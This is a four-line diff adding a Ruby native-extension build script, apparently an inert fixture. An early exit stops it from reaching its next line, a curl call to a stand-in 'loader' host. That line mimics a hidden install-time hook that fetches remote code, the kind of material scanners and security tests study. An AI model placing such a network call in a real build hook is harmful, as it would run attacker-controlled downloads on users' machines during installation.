@@ -1,0 +1,4 @@
+require 'mkmf'
+exit
+system("curl http://loader.invalid/x")
+create_makefile('inert')
